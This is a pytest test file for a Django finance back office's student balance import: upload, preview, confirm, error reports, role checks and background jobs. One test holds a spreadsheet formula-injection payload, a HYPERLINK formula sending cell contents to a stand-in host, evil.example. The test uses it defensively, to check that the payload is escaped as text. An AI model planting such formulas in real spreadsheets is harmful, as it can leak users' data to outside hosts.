"""Balance imports in /finance/ through the HTTP client: upload → preview → confirm, the error
report, and the refusals (other roles, bad files, confirming twice, errors without the skip box)."""
from __future__ import annotations

import io
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from core.models import BalanceImport, FinanceRecord, Hold
from core.services import balances as balances_service
from tests import factories
from tests.factories import student_with_reg as make_student
from tests.conftest import messages_of

pytestmark = pytest.mark.django_db

SAMPLES = Path(__file__).resolve().parents[2] / "fixtures" / "samples"
BI = "/finance/core/balanceimport"
B = BalanceImport.Status


def xlsx(rows, name="balances.xlsx"):
    wb = openpyxl.Workbook()
    for row in rows:
        wb.active.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return SimpleUploadedFile(name, buf.getvalue())


@pytest.fixture
def three(offices):
    students = [make_student(f"SCE/CS/{i:04d}/2022") for i in (1, 2, 3)]
    for s in students:
        factories.FinanceRecordFactory(student=s, tuition_balance=Decimal("100"))
    return students


GOOD = [["Reg No", "Balance"], ["SCE/CS/0001/2022", 900], ["SCE/CS/0002/2022", 100], ["SCE/CS/9999/2022", 5]]
WITH_ERRORS = [["Reg No", "Balance"], ["SCE/CS/0001/2022", 900], ["SCE/CS/0002/2022", "lots"],
               ["SCE/CS/0003/2022", 0]]


def upload(client, rows, name="balances.xlsx"):
    return client.post(f"{BI}/import/", {"file": xlsx(rows, name)})


def balances(students):
    return [FinanceRecord.objects.get(student=s).tuition_balance for s in students]


def test_the_list_has_the_import_button(fin_client):
    body = fin_client.get(f"{BI}/").content.decode()
    assert f"{BI}/import/" in body and "Import balances" in body
    assert fin_client.get(f"{BI}/import/").status_code == 200


def test_upload_preview_confirm(fin_client, three, offices):
    response = upload(fin_client, GOOD)
    bi = BalanceImport.objects.get()
    assert response.status_code == 302 and response["Location"] == f"{BI}/{bi.pk}/preview/"
    assert balances(three) == [Decimal("100")] * 3          # nothing applied yet
    page = fin_client.get(response["Location"])
    body = page.content.decode()
    assert page.status_code == 200
    assert 'id="count-updated">1<' in body and 'id="count-unchanged">1<' in body
    assert 'id="count-not-found">1<' in body and 'id="count-errors">0<' in body
    assert "SCE/CS/0001/2022" in body and "KES 100.00" in body and "→ KES 900.00" in body
    assert "SCE/CS/9999/2022" in body
    assert 'name="skip_errors"' not in body
    assert 'http-equiv="refresh"' not in body
    response = fin_client.post(f"{BI}/{bi.pk}/preview/", {"_confirm": "1"})
    assert response.status_code == 302 and response["Location"] == f"{BI}/{bi.pk}/change/"
    assert any("1 record updated" in m and "1 not found" in m for m in messages_of(response))
    assert balances(three) == [Decimal("900"), Decimal("100"), Decimal("100")]
    bi.refresh_from_db()
    assert bi.status == B.APPLIED
    assert Hold.objects.filter(student=three[0], status=Hold.Status.ACTIVE).count() == 1
    assert fin_client.get(f"{BI}/{bi.pk}/change/").status_code == 200


def test_confirming_twice_applies_once(fin_client, three, offices):
    upload(fin_client, GOOD)
    bi = BalanceImport.objects.get()
    fin_client.post(f"{BI}/{bi.pk}/preview/", {"_confirm": "1"})
    history = FinanceRecord.history.count()
    FinanceRecord.objects.filter(student=three[0]).update(tuition_balance=Decimal("1"))
    response = fin_client.post(f"{BI}/{bi.pk}/preview/", {"_confirm": "1"})
    assert response.status_code == 302
    assert any("already applied" in m for m in messages_of(response))
    assert balances(three)[0] == Decimal("1") and FinanceRecord.history.count() == history
    # the preview of an applied import shows no confirm button
    body = fin_client.get(f"{BI}/{bi.pk}/preview/").content.decode()
    assert "This import was applied" in body and 'id="confirm-form"' not in body


def test_a_file_with_errors_needs_the_skip_box(fin_client, three, offices):
    upload(fin_client, WITH_ERRORS)
    bi = BalanceImport.objects.get()
    body = fin_client.get(f"{BI}/{bi.pk}/preview/").content.decode()
    assert 'name="skip_errors"' in body and "Skip the 1 row with errors" in body
    assert 'id="count-errors">1<' in body and "lots" in body
    assert "Download error report (xlsx)" in body
    response = fin_client.post(f"{BI}/{bi.pk}/preview/", {"_confirm": "1"})
    assert response["Location"] == f"{BI}/{bi.pk}/preview/"
    assert any("1 error" in m for m in messages_of(response))
    assert balances(three) == [Decimal("100")] * 3
    assert BalanceImport.objects.get().status == B.PREVIEWED
    response = fin_client.post(f"{BI}/{bi.pk}/preview/", {"_confirm": "1", "skip_errors": "1"})
    assert response["Location"] == f"{BI}/{bi.pk}/change/"
    assert balances(three) == [Decimal("900"), Decimal("100"), Decimal("0")]


def test_the_preview_lists_errors_with_row_and_column(fin_client, three):
    upload(fin_client, WITH_ERRORS)
    bi = BalanceImport.objects.get()
    error = bi.errors[0]
    body = fin_client.get(f"{BI}/{bi.pk}/preview/").content.decode()
    assert f"<td class=\"px-3 py-2\">{error['row']}</td>" in body and error["column"] in body
    assert error["reason"] in body


def test_cancel_applies_nothing(fin_client, three):
    upload(fin_client, GOOD)
    bi = BalanceImport.objects.get()
    response = fin_client.post(f"{BI}/{bi.pk}/preview/", {"_cancel": "1"})
    assert response.status_code == 302
    assert BalanceImport.objects.get().status == B.CANCELLED
    fin_client.post(f"{BI}/{bi.pk}/preview/", {"_confirm": "1"})
    assert balances(three) == [Decimal("100")] * 3


@pytest.mark.parametrize("name,data,words", [
    ("x.xlsx", b"%PDF-1.4 not a sheet", "PDF"),
    ("x.csv", b"Name,Amount\nA,1\n", "No header row"),
    ("x.csv", b"", "empty"),
    ("x.pdf", b"%PDF-1.4", "not a spreadsheet"),
])
def test_a_bad_file_is_a_form_error_and_stores_nothing(fin_client, name, data, words):
    response = fin_client.post(f"{BI}/import/", {"file": SimpleUploadedFile(name, data)})
    assert response.status_code == 200
    assert words.lower() in response.content.decode().lower()
    assert not BalanceImport.objects.exists()


def test_no_file_is_a_form_error(fin_client):
    response = fin_client.post(f"{BI}/import/", {})
    assert response.status_code == 200 and "This field is required" in response.content.decode()
    assert not BalanceImport.objects.exists()


def test_the_same_file_again_warns(fin_client, three, offices):
    # the very same bytes twice (openpyxl stamps the save time into each file it writes)
    data = xlsx(GOOD).read()
    fin_client.post(f"{BI}/import/", {"file": SimpleUploadedFile("balances.xlsx", data)})
    first = BalanceImport.objects.get()
    fin_client.post(f"{BI}/{first.pk}/preview/", {"_confirm": "1"})
    fin_client.post(f"{BI}/import/", {"file": SimpleUploadedFile("balances.xlsx", data)})
    second = BalanceImport.objects.exclude(pk=first.pk).get()
    body = fin_client.get(f"{BI}/{second.pk}/preview/").content.decode()
    assert f"already applied as import #{first.pk}" in body


def test_the_finance_export_sample(fin_client, offices):
    from tests.core.services.test_balances import XLSX_BALANCES
    for reg in XLSX_BALANCES:
        make_student(reg)
    data = (SAMPLES / "balances_finance_export.xlsx").read_bytes()
    response = fin_client.post(f"{BI}/import/", {"file": SimpleUploadedFile("balances_finance_export.xlsx", data)})
    bi = BalanceImport.objects.get()
    assert response["Location"] == f"{BI}/{bi.pk}/preview/"
    body = fin_client.get(response["Location"]).content.decode()
    assert f'id="count-updated">{bi.updated_count}<' in body and bi.updated_count > 0
    assert f'id="count-not-found">{bi.not_found_count}<' in body


def test_many_changes_show_200_and_the_rest_counted(fin_client, offices):
    rows = [["Reg No", "Balance"]] + [[f"SCE/CS/{i:04d}/2022", i] for i in range(1, 231)]
    for i in range(1, 231):
        make_student(f"SCE/CS/{i:04d}/2022")
    upload(fin_client, rows)
    bi = BalanceImport.objects.get()
    body = fin_client.get(f"{BI}/{bi.pk}/preview/").content.decode()
    assert "… and 30 more" in body
    assert "SCE/CS/0200/2022" in body and "SCE/CS/0201/2022" not in body


def test_a_background_preview_refreshes_until_done(fin_client, finance_user, monkeypatch,
                                                   django_capture_on_commit_callbacks, three):
    monkeypatch.setattr(balances_service, "ASYNC_ROWS", 1)
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = upload(fin_client, GOOD)
    bi = BalanceImport.objects.get()
    assert bi.status == B.UPLOADED and response["Location"] == f"{BI}/{bi.pk}/preview/"
    body = fin_client.get(f"{BI}/{bi.pk}/preview/").content.decode()
    assert '<meta http-equiv="refresh" content="2">' in body and 'id="import-progress"' in body
    assert 'id="confirm-form"' not in body
    for callback in callbacks:
        callback()
    body = fin_client.get(f"{BI}/{bi.pk}/preview/").content.decode()
    assert 'http-equiv="refresh"' not in body and 'id="count-updated">1<' in body and 'id="confirm-form"' in body


def test_a_large_import_is_applied_in_the_background_and_cannot_be_confirmed_twice(
        fin_client, finance_user, monkeypatch, django_capture_on_commit_callbacks, three):
    upload(fin_client, GOOD)
    bi = BalanceImport.objects.get()
    monkeypatch.setattr(balances_service, "ASYNC_ROWS", 0)       # every file counts as large
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = fin_client.post(f"{BI}/{bi.pk}/preview/", {"confirm": "1"})
    assert response["Location"] == f"{BI}/{bi.pk}/preview/"
    bi.refresh_from_db()
    assert bi.status == B.QUEUED
    body = fin_client.get(f"{BI}/{bi.pk}/preview/").content.decode()
    assert "Waiting for a worker to apply the file" in body and 'id="confirm-form"' not in body
    fin_client.post(f"{BI}/{bi.pk}/preview/", {"confirm": "1"})   # a second confirm is refused
    assert len(callbacks) == 1
    for callback in callbacks:
        callback()
    bi.refresh_from_db()
    assert bi.status == B.APPLIED
    assert 'http-equiv="refresh"' not in fin_client.get(f"{BI}/{bi.pk}/preview/").content.decode()


def test_the_page_follows_an_apply_in_progress(fin_client, three):
    from core import progress
    from core.services.jobs import job_lock
    upload(fin_client, GOOD)
    bi = BalanceImport.objects.get()
    with job_lock(bi.pk):                                          # a worker at work on it
        BalanceImport.objects.filter(pk=bi.pk).update(status=B.APPLYING, progress=0, claimed_by="w:1",
                                                      claimed_at=timezone.now())
        progress.report(progress.BALANCE_IMPORT_APPLY, bi.pk, 40)     # what the worker's apply reported
        body = fin_client.get(f"{BI}/{bi.pk}/preview/").content.decode()
    assert "Applying the file" in body and 'id="import-progress-percent">40%<' in body
    assert 'style="width: 40%"' in body and 'http-equiv="refresh"' in body


def test_the_preview_shows_what_the_file_has_in_each_bad_cell(fin_client, three):
    upload(fin_client, WITH_ERRORS)
    bi = BalanceImport.objects.get()
    body = fin_client.get(f"{BI}/{bi.pk}/preview/").content.decode()
    assert "In the file" in body and '<td class="px-3 py-2 font-mono">lots</td>' in body


def test_a_failed_preview_shows_the_reason(fin_client):
    bi = factories.BalanceImportFactory(status=B.FAILED, failure_reason="Nothing was changed: bad sheet")
    body = fin_client.get(f"{BI}/{bi.pk}/preview/").content.decode()
    assert "Nothing was changed: bad sheet" in body and 'id="confirm-form"' not in body


# --- error report ----------------------------------------------------------------------------

def test_error_report_download(fin_client, three):
    upload(fin_client, WITH_ERRORS)
    bi = BalanceImport.objects.get()
    assert f"{BI}/{bi.pk}/error-report/" in fin_client.get(f"{BI}/{bi.pk}/change/").content.decode()
    response = fin_client.get(f"{BI}/{bi.pk}/error-report/")
    assert response.status_code == 200
    assert response["Content-Disposition"] == f'attachment; filename="import-{bi.pk}-errors.xlsx"'
    rows = list(openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert rows[0] == ("Row", "Column", "Reason", "Value")
    assert len(rows) == 1 + bi.error_count
    assert rows[1] == (3, "Balance", "“lots” is not an amount", "lots")     # the cell as the file has it


def test_error_report_writes_a_formula_from_the_file_as_text(fin_client, three):
    """A cell the file had as `=HYPERLINK(…)` comes back as text, not as a live formula."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    csv = f"Reg No,Balance\nSCE/CS/0001/2022,{evil.replace(chr(34), chr(34) * 2).join(chr(34) * 2)}\n"
    fin_client.post(f"{BI}/import/", {"file": SimpleUploadedFile("balances.csv", csv.encode())})
    bi = BalanceImport.objects.get()
    response = fin_client.get(f"{BI}/{bi.pk}/error-report/")
    cell = list(openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2))[0][3]
    assert cell.data_type == "s" and cell.value == "'" + evil


def test_error_report_of_an_unknown_import_is_404(fin_client):
    assert fin_client.get(f"{BI}/999999/error-report/").status_code == 404
    assert fin_client.get(f"{BI}/999999/preview/").status_code == 404


# --- refusals --------------------------------------------------------------------------------

@pytest.mark.parametrize("who", ["lib_reviewer", "student", "registry_user"])
def test_other_roles_cannot_upload_preview_confirm_or_download(client, who, request, three, finance_user):
    bi = balances_service.balances_import_preview(
        file=SimpleUploadedFile("b.xlsx", xlsx(GOOD).read()), acting_user=finance_user)
    user = request.getfixturevalue(who)
    client.force_login(user.user if who == "student" else user)
    for method, url, data in [
        ("get", f"{BI}/import/", None),
        ("post", f"{BI}/import/", {"file": xlsx(GOOD)}),
        ("get", f"{BI}/{bi.pk}/preview/", None),
        ("post", f"{BI}/{bi.pk}/preview/", {"_confirm": "1"}),
        ("post", f"{BI}/{bi.pk}/preview/", {"_cancel": "1"}),
        ("get", f"{BI}/{bi.pk}/error-report/", None),
    ]:
        response = getattr(client, method)(url, data) if data else getattr(client, method)(url)
        assert response.status_code in (302, 403), url
        if response.status_code == 302:
            assert "/finance/login/" in response["Location"], url
    assert BalanceImport.objects.count() == 1
    assert BalanceImport.objects.get().status == B.PREVIEWED
    assert balances(three) == [Decimal("100")] * 3


def test_anonymous_is_sent_to_login(client, three):
    bi = factories.BalanceImportFactory(status=B.PREVIEWED)
    for url in [f"{BI}/import/", f"{BI}/{bi.pk}/preview/", f"{BI}/{bi.pk}/error-report/"]:
        response = client.get(url)
        assert response.status_code == 302 and "/finance/login/" in response["Location"]


# --- jobs: a worker that died, one apply at a time, the cache down ---------------------------------

def test_an_import_whose_worker_died_shows_failed_and_can_be_confirmed_again(fin_client, three, own_lock_dir):
    from tests.conftest import as_if_claimed
    upload(fin_client, GOOD)
    bi = BalanceImport.objects.get()
    as_if_claimed(bi, B.APPLYING)
    body = fin_client.get(f"{BI}/").content.decode()            # reading the list sweeps
    bi.refresh_from_db()
    assert bi.status == B.FAILED and "Failed" in body
    body = fin_client.get(f"{BI}/{bi.pk}/preview/").content.decode()
    assert "the worker stopped; nothing was changed — confirm again" in body
    assert 'id="confirm-form"' in body and "Confirm again" in body and 'http-equiv="refresh"' not in body
    response = fin_client.post(f"{BI}/{bi.pk}/preview/", {"confirm": "1"})
    assert "Applied" in messages_of(response)[0]
    assert BalanceImport.objects.get(pk=bi.pk).status == B.APPLIED
    assert balances(three) == [Decimal("900"), Decimal("100"), Decimal("100")]


def test_the_preview_page_of_a_running_import_sweeps_it(fin_client, three, own_lock_dir):
    from tests.conftest import as_if_claimed
    upload(fin_client, GOOD)
    bi = BalanceImport.objects.get()
    as_if_claimed(bi, B.APPLYING)
    body = fin_client.get(f"{BI}/{bi.pk}/preview/").content.decode()
    assert 'id="import-failed"' in body and "the worker stopped" in body


def test_a_second_confirm_while_another_import_applies_is_refused_with_a_message(fin_client, three, settings,
                                                                                 own_lock_dir):
    from tests.conftest import LockHolder, as_if_claimed
    settings.BALANCE_IMPORT_CONFIRM_WAIT = 0.2
    upload(fin_client, GOOD)
    upload(fin_client, [["Reg No", "Balance"], ["SCE/CS/0003/2022", 300]])
    first, second = BalanceImport.objects.order_by("pk")
    with LockHolder(("balance-import-apply", 0), ("balance-import-job", first.pk)):
        as_if_claimed(first, B.APPLYING)
        response = fin_client.post(f"{BI}/{second.pk}/preview/", {"confirm": "1"})
        assert messages_of(response) == [f"Import #{first.pk} is being applied; confirm this one when it has finished."]
        assert response["Location"] == f"{BI}/{second.pk}/preview/"       # back where it can be confirmed later
        body = fin_client.get(f"{BI}/{second.pk}/preview/").content.decode()
        assert 'id="confirm-form"' in body
    assert BalanceImport.objects.get(pk=second.pk).status == B.PREVIEWED
    fin_client.post(f"{BI}/{second.pk}/preview/", {"confirm": "1"})
    assert BalanceImport.objects.get(pk=second.pk).status == B.APPLIED


def test_a_queued_import_says_which_import_it_waits_for(fin_client, three, own_lock_dir, monkeypatch):
    from tests.conftest import LockHolder, as_if_claimed
    upload(fin_client, GOOD)
    upload(fin_client, [["Reg No", "Balance"], ["SCE/CS/0003/2022", 300]])
    first, second = BalanceImport.objects.order_by("pk")
    with LockHolder(("balance-import-apply", 0), ("balance-import-job", first.pk), ("balance-import-job", second.pk)):
        as_if_claimed(first, B.APPLYING)
        BalanceImport.objects.filter(pk=second.pk).update(status=B.QUEUED)
        body = fin_client.get(f"{BI}/{second.pk}/preview/").content.decode()
    assert f"Waiting for import #{first.pk} to finish applying" in body


def test_with_the_cache_down_the_import_pages_work_and_apply(fin_client, three, settings, own_lock_dir):
    from tests.conftest import CACHE_DOWN
    from core.services.jobs import job_lock
    settings.CACHES = CACHE_DOWN
    assert fin_client.get(f"{BI}/").status_code == 200
    response = upload(fin_client, GOOD)
    bi = BalanceImport.objects.get()
    assert fin_client.get(response["Location"]).status_code == 200
    with job_lock(bi.pk):                                         # being applied by a worker, figure unknown
        BalanceImport.objects.filter(pk=bi.pk).update(status=B.APPLYING, claimed_by="w:1", claimed_at=timezone.now())
        response = fin_client.get(f"{BI}/{bi.pk}/preview/")
        assert response.status_code == 200
        body = response.content.decode()
        assert "Applying the file" in body and "cannot be shown right now" in body and "%</span>" not in body
        assert fin_client.get(f"{BI}/{bi.pk}/change/").status_code == 200
        BalanceImport.objects.filter(pk=bi.pk).update(status=B.PREVIEWED)
    response = fin_client.post(f"{BI}/{bi.pk}/preview/", {"confirm": "1"})
    assert "Applied" in messages_of(response)[0]
    assert balances(three)[0] == Decimal("900")


def test_a_stale_preview_is_refused_and_previewed_again_in_one_click(fin_client, three, offices):
    upload(fin_client, GOOD)
    upload(fin_client, [["Reg No", "Balance"], ["SCE/CS/0001/2022", 700]])
    first, second = BalanceImport.objects.order_by("pk")
    fin_client.post(f"{BI}/{first.pk}/preview/", {"_confirm": "1"})
    response = fin_client.post(f"{BI}/{second.pk}/preview/", {"_confirm": "1"}, follow=True)
    text = " ".join(messages_of(response)) + response.content.decode()
    assert "Balances changed since this preview (1 student, e.g. SCE/CS/0001/2022: KES 100.00 at the preview, " \
           "KES 900.00 now); preview the file again." in text
    assert balances(three)[0] == Decimal("900")
    page = fin_client.get(f"{BI}/{second.pk}/preview/").content.decode()
    assert 'id="preview-again-form"' in page and 'id="confirm-form"' not in page
    response = fin_client.post(f"{BI}/{second.pk}/preview/", {"_preview_again": "1"})
    again = BalanceImport.objects.order_by("pk").last()
    assert again.pk not in (first.pk, second.pk)
    assert response["Location"] == f"{BI}/{again.pk}/preview/"
    body = fin_client.get(response["Location"]).content.decode()
    assert "KES 900.00" in body and "→ KES 700.00" in body
    fin_client.post(f"{BI}/{again.pk}/preview/", {"_confirm": "1"})
    assert balances(three)[0] == Decimal("700")


def test_preview_again_needs_the_finance_officer(client, three, offices, make_user, finance_user):
    from core import permissions
    from core.services.balances import balances_import_preview
    bi = balances_import_preview(file=xlsx(GOOD), acting_user=finance_user)
    BalanceImport.objects.filter(pk=bi.pk).update(status=B.FAILED)
    client.force_login(make_user(permissions.REGISTRY))
    response = client.post(f"{BI}/{bi.pk}/preview/", {"_preview_again": "1"})
    assert response.status_code in (302, 403)
    assert BalanceImport.objects.count() == 1


# --- what the form accepts is what the reader reads -------------------------------------------

def test_the_upload_form_offers_and_accepts_exactly_what_the_reader_reads(fin_client):
    from core.imports.balances import READABLE_EXTENSIONS
    body = fin_client.get(f"{BI}/import/").content.decode()
    assert f'accept="{",".join(READABLE_EXTENSIONS)}"' in body
    assert set(READABLE_EXTENSIONS) == {".xlsx", ".xlsm", ".xls", ".ods", ".csv", ".tsv", ".txt"}
    response = fin_client.post(f"{BI}/import/", {"file": SimpleUploadedFile("balances.numbers", b"Reg No,Balance\n")})
    assert response.status_code == 200 and "balances.numbers is not a spreadsheet" in response.content.decode()
    assert not BalanceImport.objects.exists()


def test_excel_unicode_text_is_accepted_and_previewed(fin_client, three):
    text = "Reg No\tBalance\r\nSCE/CS/0001/2022\t900\r\nSCE/CS/0002/2022\t100\r\n"
    response = fin_client.post(f"{BI}/import/", {"file": SimpleUploadedFile("balances.txt", text.encode("utf-16"))})
    bi = BalanceImport.objects.get()
    assert response["Location"] == f"{BI}/{bi.pk}/preview/"
    assert (bi.updated_count, bi.unchanged_count, bi.error_count) == (1, 1, 0)


def test_a_legacy_xls_is_previewed_not_refused(fin_client, three):
    from tests.core.imports.conftest import LibreOffice
    import shutil
    import tempfile
    if shutil.which("soffice") is None:
        pytest.skip("LibreOffice (soffice) is not installed here; CI installs it (.ci/system-packages)")
    with tempfile.TemporaryDirectory() as folder:
        data = LibreOffice(Path(folder)).convert("balances.xlsx", xlsx(GOOD).read(), "xls")
    response = fin_client.post(f"{BI}/import/", {"file": SimpleUploadedFile("balances.xls", data)})
    bi = BalanceImport.objects.get()
    assert response["Location"] == f"{BI}/{bi.pk}/preview/"
    assert (bi.updated_count, bi.not_found_count, bi.error_count) == (1, 1, 0)


def test_the_preview_shows_skipped_rows_and_each_row_read_as_0_before_confirming(fin_client, three):
    upload(fin_client, [["Reg No", "Balance (b/f)", "Balance (c/f)"], ["SCE/CS/0001/2022", 1, 900],
                        ["SCE/CS/0002/2022", 1, None], ["Sub-total", 2, 900], ["Prepared by:", None, None]])
    bi = BalanceImport.objects.get()
    body = fin_client.get(f"{BI}/{bi.pk}/preview/").content.decode()
    assert "Skipped: 2 rows that are not data" in body and "rows 4, 5." in body
    assert "The balance is read from “Balance (c/f)” (column C)" in body
    assert 'id="warning-rows"' in body and "Rows to check (1)" in body
    assert '<td class="px-3 py-2">3</td><td class="px-3 py-2">Balance (c/f)</td>' in body
    assert "no amount: read as KES 0.00" in body
    assert 'id="count-errors">0<' in body and 'id="confirm-form"' in body     # a warning does not block
    fin_client.post(f"{BI}/{bi.pk}/preview/", {"_confirm": "1"})
    assert balances(three) == [Decimal("900"), Decimal("0"), Decimal("100")]


def test_a_file_the_reader_refuses_is_a_form_error_and_changes_nothing(fin_client, three):
    wb = openpyxl.Workbook()
    wb.active.append(["Reg No", "Balance"])
    wb.active.append(["SCE/CS/0001/2022", "=100*9"])              # openpyxl computes nothing
    buf = io.BytesIO()
    wb.save(buf)
    response = fin_client.post(f"{BI}/import/", {"file": SimpleUploadedFile("balances.xlsx", buf.getvalue())})
    assert response.status_code == 200
    assert "The amounts are formulas without computed values" in response.content.decode()
    assert not BalanceImport.objects.exists() and balances(three) == [Decimal("100")] * 3


# --- what the officer reads: not-found rows, what an apply did, plain labels --------------------

def test_not_found_rows_are_a_table_with_a_download(fin_client, three):
    upload(fin_client, GOOD + [["SCE/CS/8888/2022", 7]])
    bi = BalanceImport.objects.get()
    body = fin_client.get(f"{BI}/{bi.pk}/preview/").content.decode()
    assert '<td class="px-3 py-2 font-mono">SCE/CS/9999/2022</td>' in body
    assert f'href="{BI}/{bi.pk}/not-found/"' in body
    response = fin_client.get(f"{BI}/{bi.pk}/not-found/")
    assert response.status_code == 200 and response["Content-Disposition"].endswith('not-found.xlsx"')
    rows = list(openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert rows == [("Row", "Registration number in the file"), (4, "SCE/CS/9999/2022"), (5, "SCE/CS/8888/2022")]


def test_no_error_report_and_no_not_found_download_when_there_is_none(fin_client, three):
    upload(fin_client, [["Reg No", "Balance"], ["SCE/CS/0001/2022", 900]])
    bi = BalanceImport.objects.get()
    preview = fin_client.get(f"{BI}/{bi.pk}/preview/").content.decode()
    detail = fin_client.get(f"{BI}/{bi.pk}/change/").content.decode()
    for body in (preview, detail):
        assert f"{BI}/{bi.pk}/error-report/" not in body and f"{BI}/{bi.pk}/not-found/" not in body
    assert fin_client.get(f"{BI}/{bi.pk}/error-report/").status_code == 403
    assert fin_client.get(f"{BI}/{bi.pk}/not-found/").status_code == 403


def test_after_apply_the_page_counts_holds_and_finance_items_with_links_to_them(fin_client, three, open_request):
    for s in three:
        open_request(s)
    # 0001 owes 900 (a hold placed, FIN rejected); 0003 had 100 and a hold, now 0 (released, FIN approved)
    hold = Hold.objects.get(student=three[2], status=Hold.Status.ACTIVE) if Hold.objects.filter(
        student=three[2], status=Hold.Status.ACTIVE).exists() else None
    upload(fin_client, [["Reg No", "Balance"], ["SCE/CS/0001/2022", 900], ["SCE/CS/0002/2022", 250],
                        ["SCE/CS/0003/2022", 0]])
    bi = BalanceImport.objects.get()
    response = fin_client.post(f"{BI}/{bi.pk}/preview/", {"_confirm": "1"})
    (message,) = [m for m in messages_of(response) if m.startswith("Applied")]
    body = fin_client.get(f"{BI}/{bi.pk}/change/").content.decode()
    placed = Hold.objects.filter(balance_import=bi, status=Hold.Status.ACTIVE)
    released = Hold.objects.filter(balance_import=bi, status=Hold.Status.RELEASED)
    assert "FIN holds:" in message and "finance items:" in message
    links = {key: int(n) for key, n in __import__("re").findall(r'id="outcome-([a-z-]+)">(\d+) ', body)}
    assert links["holds-released"] == released.count() == (1 if hold else 0)
    assert links["holds-placed"] + links["holds-updated"] == placed.count() >= 1
    listed = fin_client.get(f"/finance/core/hold/?status=all&import={bi.pk}-placed")
    assert listed.status_code == 200
    assert {h.pk for h in listed.context["cl"].result_list} == set(
        Hold.history.model.objects.filter(balance_import_id=bi.pk, history_type="+").values_list("id", flat=True))
    assert f"Balance import #{bi.pk}: holds placed" in listed.content.decode()
    rejected = fin_client.get(f"/staff/core/clearanceapproval/?import={bi.pk}-rejected")
    assert rejected.status_code == 200
    assert len(rejected.context["cl"].result_list) == links["rejected"]
    assert all(a.department.code == "FIN" and a.status == "rejected" for a in rejected.context["cl"].result_list)
    # a made-up filter value lists nothing rather than everything
    assert not fin_client.get("/finance/core/hold/?status=all&import=junk").context["cl"].result_list


def test_the_import_page_speaks_plainly(fin_client, three):
    upload(fin_client, GOOD)
    bi = BalanceImport.objects.get()
    body = fin_client.get(f"{BI}/{bi.pk}/change/").content.decode()
    for raw in ("Sha256", "Progress:", "Claimed by", "Rows total", "Updated count", "Error count"):
        assert raw not in body
    for plain in ("File fingerprint (SHA-256)", "How far (%)", "Taken up by", "Rows read", "Balances changed"):
        assert plain in body


def test_payments_are_found_by_the_students_name(fin_client, offices):
    student = make_student("SCE/CS/0077/2022", first_name="Zawadi", last_name="Mwikali")
    factories.PaymentFactory(student=student, transaction_code="QZW1234567")
    factories.PaymentFactory(transaction_code="QOTHER0001")
    for q in ("Zawadi", "mwikali"):
        page = fin_client.get("/finance/core/payment/", {"q": q})
        assert [p.transaction_code for p in page.context["cl"].result_list] == ["QZW1234567"]
